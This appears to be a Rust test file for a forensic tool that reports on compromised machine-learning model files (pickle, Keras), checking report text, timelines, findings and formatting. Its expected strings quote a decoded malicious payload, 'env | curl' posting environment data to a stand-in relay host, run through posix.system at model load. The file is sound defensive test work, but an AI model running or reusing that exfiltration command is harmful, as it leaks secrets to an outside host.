//! The terminal report.

use crate::cases;
use wb_core::Span;
use wb_report::escape::is_hostile;
use wb_report::text::{self, Style};

const PLAIN: Style = Style { width: 100, color: false };

/// The answer of a case: everything before the first section.
fn answer(report: &str) -> &str {
    report.split("\n\n").next().expect("text");
    let end = report.find("\nFINDINGS").unwrap_or(report.len());
    report.get(..end).expect("a boundary")
}

/// Text without its line breaks, so that what is looked for may be wrapped.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn print_the_sample() {
    if let Ok(name) = std::env::var("WEIGHBRIDGE_SAMPLE") {
        let case = match name.as_str() {
            "clean" => cases::clean(),
            "hostile" => cases::hostile(),
            _ => cases::compromise(),
        };
        println!("{}", text::case(&case, &cases::tool(), &PLAIN));
        println!("{}", text::scan(&cases::scan(), false, &PLAIN));
    }
}

#[test]
fn the_first_25_lines_answer_the_analyst() {
    let report = text::case(&cases::compromise(), &cases::tool(), &PLAIN);
    let answer = answer(&report);
    assert!(answer.lines().count() <= 25, "{answer}");
    assert_eq!(answer.trim_end(), text::summary(&cases::compromise(), &PLAIN).trim_end());
    for expected in [
        "COMPROMISED  (confidence high)",
        "introduced      2026-06-02 16:20:11 UTC  OBSERVED  logs/rollout.log:5",
        "first outbound  2026-06-02 16:20:21 UTC",
        "detected        2026-06-20 02:12:00 UTC",
        "blocked         2026-06-20 02:12:30 UTC",
        "17 d 9 h 51 min 49 s elapsed, 18 calendar days",
        "at load: (1 of 2) `posix.system` env | curl",
        "hxxps://metrics-relay[.]example",
        "834 attempts, 2 blocked",
        "registry.example/contrib-labs/triage-fast  (before: registry.example/ml/triage)",
        "1 MISMATCH: models/live/triage.pt; 1 UNRECORDED",
        "relay{f2c9}",
        "REJECT models/staged/triage-next.keras",
        "the capture has a field `sid`",
        "no approval or ticket",
        "$ nft add rule inet filter output ip daddr 203.0.113.44 drop",
    ] {
        assert!(flat(answer).contains(&flat(expected)), "`{expected}` is not in:\n{answer}");
    }
}

#[test]
fn the_detail_holds_what_the_answer_rests_on() {
    let report = text::case(&cases::compromise(), &cases::tool(), &PLAIN);
    for expected in [
        "F1  CRITICAL  loading this model runs a shell command",
        "op 11, offset 214, 1 byte",
        "payload: shell, taken out of base64, then zlib",
        "│ env | curl -s -X POST --data-binary @- https://metrics-relay.example/v1/ingest",
        "    6 > _1 = system(",
        "INFERRED  data.pkl:1      the payload ran",
        "rollout.log:5   INTRODUCED  triage.pt deployed",
        "periodic, every 30 min (score 0.96)",
        "MISMATCH    models/live/triage.pt",
        "+ added    global  posix.system",
        "part  `c9}`",
        "ERADICATE",
        "UNREAD  notes.bin: no format claims it",
    ] {
        assert!(flat(&report).contains(&flat(expected)), "`{expected}` is not in:\n{report}");
    }
}

#[test]
fn a_clean_case_reads_calm() {
    let report = text::case(&cases::clean(), &cases::tool(), &PLAIN);
    assert!(report.starts_with("nothing wrong found in what was supplied  (confidence high)\n"));
    assert!(report.contains("APPROVE models/reference/triage-2.3.safetensors"), "{report}");
    for alarming in ["COMPROMISED", "MISSING", "MISMATCH", "REJECT", "WHAT TO DO", "dwell"] {
        assert!(!report.contains(alarming), "`{alarming}` in:\n{report}");
    }
    let nothing = text::case(&cases::empty(), &cases::tool(), &PLAIN);
    assert!(nothing.starts_with("NOTHING TO LOOK AT"));
}

#[test]
fn hostile_text_stays_text_and_the_answer_stays_short() {
    for width in [60, 100, 200] {
        let style = Style { width, color: false };
        let report = text::case(&cases::hostile(), &cases::tool(), &style);
        let stray = report.chars().find(|character| *character != '\n' && is_hostile(*character));
        assert_eq!(stray, None);
        let answer = answer(&report);
        assert!(answer.lines().count() <= 25, "{answer}");
        // Only what is copied (code and commands, marked by their gutter) may be longer than a line.
        let long = report.lines().find(|line| {
            line.chars().filter(|character| *character < '\u{1100}').count() > width
                && !line.contains("│ ")
                && !line.contains("$ ")
                && !line.contains(" > ")
        });
        assert_eq!(long, None);
    }
    let scan = text::scan(&cases::scan(), false, &Style { width: 80, color: false });
    assert!(scan.lines().all(|line| line.contains("│ ") || line.chars().count() <= 80));
}

#[test]
fn colour_adds_nothing_but_colour() {
    let coloured =
        text::case(&cases::compromise(), &cases::tool(), &Style { width: 100, color: true });
    let mut plain = String::new();
    let mut rest = coloured.as_str();
    while let Some((before, after)) = rest.split_once('\x1b') {
        plain.push_str(before);
        rest = after.split_once('m').expect("a complete sequence").1;
    }
    plain.push_str(rest);
    assert_eq!(plain, text::case(&cases::compromise(), &cases::tool(), &PLAIN));
}

#[test]
fn a_scan_is_quiet_about_clean_artifacts() {
    let report = text::scan(&cases::scan(), false, &PLAIN);
    assert!(!report.contains("safetensors"), "{report}");
    assert!(report.contains("MALICIOUS  models/staged/triage-next.keras  keras"), "{report}");
    assert_eq!(
        report.lines().last(),
        Some("11 artifacts: 3 malicious, 1 suspicious, 1 unknown, 6 clean; 4 findings")
    );
    assert_eq!(text::scan(&wb_report::Scan::default(), false, &PLAIN), "nothing to look at\n");
}

#[test]
fn a_large_case_says_what_it_hides() {
    let report = text::case(&cases::large(5_000), &cases::tool(), &PLAIN);
    assert!(report.lines().count() < 500);
    assert!(report.contains("events not shown"), "{report}");
    assert!(report.contains("LAST OUTBOUND"));
}

#[test]
fn an_inventory_lists_layers_tensors_and_metadata() {
    let case = cases::compromise();
    let artifact = case
        .artifacts
        .iter()
        .find(|artifact| artifact.format == Some("keras"))
        .expect("the candidate");
    let report = text::inspect(artifact, &case.dossiers[&artifact.path], &PLAIN);
    for expected in
        ["keras.layers.Lambda", "COMPONENTS (3)", "trainable=true", "keras_version  3.4.1"]
    {
        assert!(report.contains(expected), "`{expected}` is not in:\n{report}");
    }
    let none = text::differences(&[], &PLAIN);
    assert_eq!(none, "no difference in layers, tensors, globals or metadata\n");
}

#[test]
fn bytes_are_shown_with_their_offset_and_the_finding_marked() {
    let data: Vec<u8> = (0..=40).collect();
    let shown = text::hex(&data, Span::new(16, 64), Span::new(34, 1));
    assert_eq!(
        shown,
        "\n  00000010  10 11 12 13 14 15 16 17  18 19 1a 1b 1c 1d 1e 1f  ................\n\
         > 00000020  20 21 22 23 24 25 26 27  28                        !\"#$%&'(\n"
    );
    assert_eq!(text::hex(&data, Span::new(u64::MAX, 4), Span::new(0, 0)), "\n");
}
